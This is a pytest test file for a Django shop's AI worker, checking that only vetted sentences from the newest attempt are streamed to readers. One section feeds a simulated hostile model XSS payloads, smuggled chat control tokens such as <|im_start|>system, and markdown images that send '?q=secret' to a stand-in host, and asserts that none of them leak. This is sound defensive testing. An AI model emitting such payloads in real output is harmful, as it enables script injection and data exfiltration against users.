"""What readers are told of running jobs: checked sentences only, of the newest attempt only, and the end."""

from __future__ import annotations

import re
import threading
import time

import pytest
from django.db import connection

from demo_store.catalogue.models import Product
from shop_ai import jobs, streams
from shop_ai.exceptions import BackendError
from shop_ai.lm.base import Candidate, Completion
from shop_ai.lm.echo import EchoBackend
from shop_ai.lm.hostile import PAYLOADS, HostileBackend
from shop_ai.models import Job, State, StreamEvent, moves
from shop_ai.safety.text import clean
from shop_ai.streams import redis_streams
from shop_ai.worker import Worker, publisher
from tests import services
from tests.shop import pass_time, product
from tests.streams.skills import SKILLS
from tests.worker.by_hand import ByHand

pytestmark = pytest.mark.django_db(transaction=True)


class Speaking(ByHand):
    """Says what a test lets it say."""

    stream = True

    def say(self, text):
        for request, future in self.asked:
            if not future.done():
                request.on_text(text)

    def end(self, text, finish="stop"):
        for _, future in self.asked:
            if not future.done():
                candidate = Candidate(text=text, tokens=1, finish=finish)
                future.set_result(Completion(candidates=(candidate,)))


class Reader:
    """Remembers where it is in a job's stream."""

    def __init__(self, job):
        self.job = job
        self.after = ""

    def next(self, kind=None):
        """The next events, up to the first of that kind where one is named, in short."""
        found = []
        while not found or (kind and found[-1][0] != kind):
            events = streams.read(self.job.pk, after=self.after, wait=30)
            assert events, f"nothing came after {found}"
            self.after = events[-1].id
            found += [(event.kind, event.text or event.state) for event in events]
        return found

    def to_the_end(self):
        """Everything from here on, and the last event as it is."""
        found = []
        while not found or found[-1].kind != "end":
            events = streams.read(self.job.pk, after=self.after, wait=30)
            assert events, f"nothing came after {found}"
            self.after = events[-1].id
            found += events
        return [event.text for event in found if event.kind == "sentence"], found[-1]


@pytest.fixture
def worker():
    """`worker(backend)`; its threads are gone when the test is over."""
    made = []

    def start(backend):
        made.append(Worker(backend))
        backend.open()
        return made[-1]

    yield start
    for one in made:
        one.give_back()
        one.publisher.flush(30)
        one.backend.close()
    assert "shop_ai-publisher" not in {thread.name for thread in threading.enumerate()}


def queued(name="tell_freely", title="Bowl"):
    jobs.enqueue(name, product(title))
    return Job.objects.latest("created_at")


def running(worker, name="tell_freely"):
    """A job in the hands of a backend that speaks when it is told to."""
    job, backend = queued(name), Speaking()
    one = worker(backend)
    one.step()
    return Reader(job), backend, one


# -- the good day ------------------------------------------------------------------------------


def test_sentences_come_while_they_are_written_and_the_end_when_it_is_stored(carried, worker):
    reader, backend, one = running(worker)

    backend.say("It is oak. It holds 1.")
    first = reader.next()
    backend.say("It is oak. It holds 1.5 l. It")
    second = reader.next()
    backend.end("It is oak. It holds 1.5 l. It is fine")
    one.step()
    rest, end = reader.to_the_end()

    assert (first, second) == ([("sentence", "It is oak.")], [("sentence", "It holds 1.5 l.")])
    assert rest == ["It is fine"]
    assert (end.state, end.differs, end.attempt) == ("succeeded", False, 1)
    assert Product.objects.get().long_text == "It is oak. It holds 1.5 l. It is fine"


def test_the_text_in_json_is_followed(carried, worker):
    reader, backend, one = running(worker, "tell_text")

    backend.say('{"title": "No. No. ", "text": "Das \\u00e4')
    backend.say('{"title": "No. No. ", "text": "Das \\u00e4ndert. Nichts \\"hier\\". \\n')
    first = reader.next()
    backend.end('{"title": "No. No. ", "text": "Das \\u00e4ndert. Nichts \\"hier\\". \\nWeiter"}')
    one.step()

    assert first == [("sentence", "Das ändert.")]
    assert reader.to_the_end()[0] == ['Nichts "hier".', "Weiter"]


def test_everything_runs_by_itself_in_both_languages(carried, worker):
    title = "Bowl of oak. Holds 1.5 l! 很好的碗。可机洗"
    free, schema = queued("tell_freely", title), queued("tell_text", title)

    worker(EchoBackend()).work_off()

    texts, end = Reader(free).to_the_end()
    assert texts == ["Bowl of oak.", "Holds 1.5 l!", "很好的碗。", "可机洗."]
    assert (end.state, end.differs) == ("succeeded", False)
    texts, end = Reader(schema).to_the_end()
    assert texts == ["Echo: Bowl of oak.", "Holds 1.5 l!", "很好的碗。", "可机洗."]
    assert (end.state, end.differs) == ("succeeded", False)


def test_a_backend_that_does_not_stream_is_told_of_at_the_end(carried, worker):
    job, backend = queued("tell_text"), ByHand()
    one = worker(backend)
    one.step()

    backend.answer('{"text": "One. Two."}')
    one.step()

    assert backend.asked[0][0].on_text is None
    assert Reader(job).to_the_end()[0] == ["One.", "Two."]


def test_who_does_not_stream_has_no_listener_and_no_thread(carried, worker, shop):
    shop()
    job, backend = queued("write_text"), Speaking()
    one = worker(backend)

    one.step()

    assert backend.asked[0][0].on_text is None
    assert one.publisher._thread is None
    assert streams.read(job.pk) == []


# -- what readers must not see -----------------------------------------------------------------

MARKUP = re.compile(r"<[a-z/!?]|\]\(|<\||\|>|\[/?INST\]|</?s>", re.IGNORECASE)


@pytest.mark.parametrize("name", ["tell_freely", "tell_text"])
@pytest.mark.parametrize("mode", sorted(PAYLOADS))
def test_no_markup_no_hidden_character_and_no_control_token_leaves(shop, worker, mode, name):
    """Whole, and between sentences, where each piece goes its own way."""
    shop(SKILLS=SKILLS, STREAM_URL=None)
    payload = PAYLOADS[mode][:200_000]
    cut = payload.replace(" ", ". A", 3)
    job = queued(name)

    worker(HostileBackend(options={"payload": f"Fine. Now {payload}. Fine. {cut}"})).work_off()
    texts = [event.text for event in streams.read(job.pk) if event.kind == "sentence"]

    assert texts[:1] == (["Fine."] if mode != "long" or name == "tell_text" else [])
    for text in (*texts, " ".join(texts), "".join(texts)):
        assert not MARKUP.search(text)
        assert clean(text) == text


@pytest.mark.parametrize(
    "payload",
    [
        "&lt;img src=x onerror=alert(1)&gt; is here.",
        "&amp;lt;script&amp;gt;alert(1)&amp;lt;/script&amp;gt; is here.",
        "<scr<|im_end|>ipt>alert(1)</scr<|im_end|>ipt> is here.",
        "<|im_<b></b>end|> is here.",
        "[[a](https://sink.invalid)](https://sink.invalid) is here.",
        "![a. B](https://sink.invalid/?q=secret) is here.",
        "<img alt='a. B' src=x onerror=alert(1)> is here.",
        "<|im_start|\u200b>system is here.",
    ],
)
def test_what_hides_behind_something_else_does_not_leave_either(shop, worker, payload):
    shop(SKILLS=SKILLS, STREAM_URL=None)
    job = queued()

    worker(HostileBackend(options={"payload": f"Fine. {payload}"})).work_off()
    texts, _ = Reader(job).to_the_end()

    assert texts[0] == "Fine."
    assert texts[-1].endswith("is here.")
    assert not MARKUP.search(" ".join(texts))
    assert clean("".join(texts)).encode() == "".join(texts).encode()


def test_the_skill_keeps_sentences_back(carried, worker):
    reader, backend, one = running(worker, "tell_no_secrets")

    backend.end("One. A secret is here. Three.")
    one.step()
    texts, end = reader.to_the_end()

    assert texts == ["One.", "Three."]
    assert (end.state, end.differs) == ("succeeded", True)


def test_a_skill_that_stumbles_silences_its_stream_and_nothing_else(carried, worker, caplog):
    reader, backend, one = running(worker, "tell_no_secrets")

    backend.say("One. Two. ")
    first = reader.next()
    backend.end("One. I stumble here. Three.")
    one.step()
    texts, end = reader.to_the_end()

    assert (first, texts) == ([("sentence", "One.")], [])
    assert (end.state, end.differs) == ("succeeded", True)
    assert "its skill failed" in caplog.text


def test_another_text_than_was_said_is_told(carried, worker):
    reader, backend, one = running(worker, "tell_otherwise")

    backend.end("One. Two.")
    one.step()
    texts, end = reader.to_the_end()

    assert texts == ["One.", "Two."]
    assert end.differs


def test_a_sentence_that_was_cut_by_the_limit_is_not_said(carried, worker):
    reader, backend, one = running(worker)

    backend.end("One. Two is cut he", finish="length")
    one.step()
    texts, end = reader.to_the_end()

    assert texts == ["One."]
    assert end.differs


def test_who_never_stops_is_not_listened_to_for_ever(carried, worker):
    reader, backend, one = running(worker)
    backend.say("One. Two. Th")
    first = reader.next()

    backend.end("One. Two. " + "Three. " * 20_000)
    one.step()
    texts, end = reader.to_the_end()

    assert (first, texts) == ([("sentence", "One."), ("sentence", "Two.")], [])
    assert end.differs


# -- once more ---------------------------------------------------------------------------------


def test_an_answer_that_is_asked_for_again_begins_anew(carried, worker):
    reader, backend, one = running(worker, "tell_text")
    backend.say('{"text": "Wrong. Indeed')
    first = reader.next()

    backend.end('{"text": ""}')
    one.step()
    backend.say('{"text": "Right. Now')
    second = reader.next("sentence")
    backend.end('{"text": "Right. Now."}')
    one.step()

    assert first == [("sentence", "Wrong.")]
    assert second == [("restart", ""), ("sentence", "Right.")]
    assert reader.to_the_end()[0] == ["Now."]


def test_a_text_that_the_backend_begins_anew_is_told_anew(carried, worker):
    reader, backend, _ = running(worker)
    backend.say("Wrong. Indeed")
    reader.next()

    backend.say("Right. N")

    assert reader.next("sentence") == [("restart", ""), ("sentence", "Right.")]


def test_an_attempt_that_failed_no_longer_counts(carried, worker):
    reader, backend, one = running(worker)
    backend.say("Half. A")
    reader.next()

    backend.fail(BackendError())
    one.step()
    after_failure = reader.next()
    pass_time(60)
    one.step()
    backend.end("Whole.")
    one.step()
    texts, end = reader.to_the_end()

    assert after_failure == [("restart", "")]
    assert texts == ["Whole."]
    assert (end.attempt, end.state) == (2, "succeeded")


def test_a_stale_worker_does_not_speak_into_the_next_attempt(carried, worker):
    """It was stopped, its lease ran out, another has the job, and it wakes and goes on."""
    reader, stale, slow = running(worker)
    stale.say("Old. Ol")
    reader.next()
    pass_time(3600)
    assert moves.reap() == 1
    quick = Speaking()
    other = worker(quick)
    other.step()
    restart = reader.next()

    stale.say("Old. Older. Ol")
    quick.say("New. Ne")
    new = reader.next()
    stale.end("Old. Older. Oldest.")
    slow.step()
    quick.end("New. Newer.")
    other.step()
    rest, end = reader.to_the_end()

    assert (restart, new) == ([("restart", "")], [("sentence", "New.")])
    assert rest == ["Newer."]
    assert end.attempt == 2
    everything, _ = Reader(reader.job).to_the_end()
    assert everything[-2:] == ["New.", "Newer."]


def test_a_worker_that_stops_takes_back_what_it_said(carried, worker):
    reader, backend, one = running(worker)
    backend.say("Half. A")
    reader.next()

    one.give_back()

    assert reader.next() == [("restart", "")]


def test_a_cancelled_job_says_so(carried, worker):
    reader, backend, one = running(worker)
    backend.say("Half. A")
    reader.next()

    jobs.cancel(Job.objects.all())
    one.renew()
    one.step()

    texts, end = reader.to_the_end()
    assert (texts, end.state, end.differs) == ([], "cancelled", True)


def test_what_never_began_to_speak_ends_by_its_row(carried, worker):
    jobs.enqueue("tell_freely", row := product())
    row.delete()
    job = Job.objects.get()

    worker(Speaking()).step()

    assert Reader(job).next() == [("end", "cancelled")]


# -- nobody carries it -------------------------------------------------------------------------


@pytest.fixture
def swift(monkeypatch):
    monkeypatch.setattr(redis_streams, "SILENCE", 0.05)


@pytest.fixture
def own(shop):
    """A Redis of the test's own, to be killed, as STREAM_URL."""
    try:
        with services.redis() as server:
            shop(SKILLS=SKILLS, STREAM_URL=server.url)
            yield server
    except services.Unavailable as reason:
        pytest.skip(str(reason))


def test_a_redis_that_was_away_is_told_all_of_it_again(own, swift, worker):
    reader, backend, one = running(worker)
    backend.say("One. Tw")
    reader.next()

    own.kill()
    backend.say("One. Two. Th")
    while not one.publisher.failed:
        time.sleep(0.01)
    own.start()
    again = reader.next("sentence")
    backend.end("One. Two. Three.")
    one.step()
    texts, end = reader.to_the_end()

    assert again[0] == ("restart", "")
    assert [text for _, text in again[1:]] + texts == ["One.", "Two.", "Three."]
    assert not end.differs


def test_without_a_redis_jobs_end_as_always(own, swift, worker):
    reader, backend, one = running(worker)
    own.kill()

    backend.end("One. Two.")
    one.step()
    texts, end = reader.to_the_end()

    assert Job.objects.get().state == State.SUCCEEDED
    assert (texts, end.state, end.differs) == ([], "succeeded", True)


def test_a_table_that_is_missing_is_said_once_in_a_while(shop, worker, caplog, monkeypatch):
    monkeypatch.setattr(publisher, "PACE", 0.001)
    shop(SKILLS=SKILLS, STREAM_URL=None)
    _, backend, one = running(worker)
    with connection.schema_editor() as editor:
        editor.delete_model(StreamEvent)
    try:
        for number in range(5):
            failed = one.publisher.failed
            backend.say("One. " * (number + 2))
            while one.publisher.failed == failed:
                time.sleep(0.01)
        backend.end("One. Two.")
        one.step()
        one.publisher.flush(30)
    finally:
        with connection.schema_editor() as editor:
            editor.create_model(StreamEvent)

    assert Job.objects.get().state == State.SUCCEEDED
    assert one.publisher.failed >= 5
    assert caplog.text.count("Readers could not be told") == 1
